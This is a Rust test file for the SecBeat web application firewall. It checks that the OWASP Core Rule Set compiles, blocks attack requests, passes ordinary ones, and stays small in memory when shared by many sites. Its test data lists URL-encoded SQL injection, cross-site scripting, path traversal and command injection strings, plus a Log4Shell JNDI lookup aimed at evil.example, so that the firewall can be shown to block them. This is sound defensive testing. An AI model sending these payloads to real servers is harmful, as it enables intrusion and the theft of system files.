//! The OWASP Core Rule Set compiles as it is, alone and with the files that SecBeat puts before and after it, and
//! decides as it should on a few requests.
#[path = "seclang/disk.rs"]
mod disk;

use core::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use disk::{Disk, folder};
use secbeat_waf::ruleset::{Ruleset, Site};
use secbeat_waf::seclang;
use secbeat_waf::transaction::{
    Budget, Connection, Evaluator, Interruption, Persistent, RequestHead, Transaction,
};

const SETTINGS: &str = "SecRuleEngine On\nSecRequestBodyAccess On\nSecResponseBodyAccess On\n";

/// Core Rule Sets at hand: set-up and rules.
fn sets() -> Vec<(PathBuf, PathBuf)> {
    let mut sets = Vec::new();
    if let Some(folder) = folder("CRS_DIR", "crs") {
        let rules = folder.join("rules");
        let setup = [folder.join("crs-setup.conf.example"), rules.join("crs-setup.conf.example")];
        if let Some(setup) = setup.into_iter().find(|path| path.exists()) {
            sets.push((setup, rules));
        }
    }
    let debian = (
        PathBuf::from("/etc/modsecurity/crs/crs-setup.conf"),
        PathBuf::from("/usr/share/modsecurity-crs/rules"),
    );
    if debian.0.exists() && debian.1.exists() {
        sets.push(debian);
    }
    sets
}

fn own(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../config/crs").join(name).display().to_string()
}

fn compile(setup: &Path, rules: &Path, with_own: bool) -> Ruleset {
    let scratch = tempfile::tempdir().expect("a folder");
    let settings = scratch.path().join("settings.conf");
    std::fs::write(&settings, SETTINGS).expect("a file");
    let mut paths = vec![settings.display().to_string(), setup.display().to_string()];
    if with_own {
        paths.push(own("before.conf"));
    }
    paths.push(rules.join("*.conf").display().to_string());
    if with_own {
        paths.push(own("after.conf"));
    }
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    let configuration =
        seclang::read(&paths, &Disk(PathBuf::from("/"))).unwrap_or_else(|errors| panic!("{errors}"));
    Ruleset::compile(&configuration).unwrap_or_else(|errors| panic!("{errors}"))
}

fn judge(evaluator: &mut Evaluator, site: Option<Arc<Site>>, target: &str) -> Option<Interruption> {
    let connection = Connection {
        client: IpAddr::V4(Ipv4Addr::LOCALHOST),
        client_port: 1,
        server: IpAddr::V4(Ipv4Addr::LOCALHOST),
        server_port: 80,
    };
    let mut tx = Transaction::new();
    evaluator.begin(&mut tx, site, &connection, b"id", 0, 0);
    let head = RequestHead { method: b"GET", target: target.as_bytes(), protocol: b"HTTP/1.1" };
    let fields: [(&[u8], &[u8]); 3] =
        [(b"Host", b"shop.example"), (b"User-Agent", b"Mozilla/5.0"), (b"Accept", b"*/*")];
    evaluator
        .request_head(&mut tx, &head, fields.into_iter())
        .or_else(|| evaluator.request_body(&mut tx, b"", true))
}

const ATTACKS: &[&str] = &[
    "/?id=1%27%20or%201%3D1--%20-",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?file=../../../../etc/passwd",
    "/?cmd=%3B%20cat%20/etc/passwd",
    "/?x=$%7Bjndi:ldap://evil.example/a%7D",
];

const ORDINARY: &[&str] =
    &["/", "/search?q=waterproof+walking+boots&page=2", "/articles/2024/a-quiet-day?utm_source=mail"];

#[test]
fn core_rule_sets_compile_and_decide() {
    let sets = sets();
    if sets.is_empty() {
        println!("skipped: no Core Rule Set; set CRS_DIR or install modsecurity-crs");
    }
    for (setup, rules) in sets {
        for with_own in [false, true] {
            let set = Arc::new(compile(&setup, &rules, with_own));
            println!("{}, with our own files: {with_own}: {} rules", rules.display(), set.rules_len());
            let mut evaluator =
                Evaluator::new(Arc::clone(&set), Arc::new(Persistent::default()), Budget::default());
            for target in ATTACKS {
                assert!(judge(&mut evaluator, None, target).is_some(), "{target} passes");
            }
            for target in ORDINARY {
                assert_eq!(judge(&mut evaluator, None, target), None, "{target}");
            }
        }
    }
}

#[test]
fn a_hundred_sites_share_one_set() {
    let Some((setup, rules)) = sets().into_iter().next() else {
        println!("skipped: no Core Rule Set; set CRS_DIR or install modsecurity-crs");
        return;
    };
    let before = resident_kib();
    let set = Arc::new(compile(&setup, &rules, false));
    let alone = resident_kib() - before;
    let before = resident_kib();
    let sites: Vec<Arc<Site>> = (0..100)
        .map(|number| {
            let text = format!(
                "SecRuleRemoveById 9421{:02}\nSecRuleRemoveByTag attack-rce\n\
                 SecRuleUpdateTargetById 942100-942999 \"!ARGS:field_{number}\"\n\
                 SecRuleUpdateTargetByTag attack-xss \"!REQUEST_COOKIES:/^pref_{number}_/\"\n",
                number % 100
            );
            let configuration = seclang::read_text("site.conf", &text, &Disk(PathBuf::from("/"))).unwrap();
            Arc::new(Site::compile(&set, &configuration).unwrap())
        })
        .collect();
    let hundred = resident_kib().saturating_sub(before);
    println!("one set {alone} KiB, a hundred sites {hundred} KiB more");
    assert!(hundred * 5 <= alone, "a hundred sites take {hundred} KiB, the set {alone} KiB");

    let mut evaluator = Evaluator::new(set, Arc::new(Persistent::default()), Budget::default());
    let attack = "/?field_7=1%27%20or%201%3D1--%20-";
    assert!(judge(&mut evaluator, Some(Arc::clone(&sites[8])), attack).is_some());
    assert_eq!(judge(&mut evaluator, Some(Arc::clone(&sites[7])), attack), None);
    assert!(judge(&mut evaluator, None, attack).is_some());
}

/// Memory of this process, KiB.
fn resident_kib() -> u64 {
    let text = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = text.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).unwrap_or(0)
}
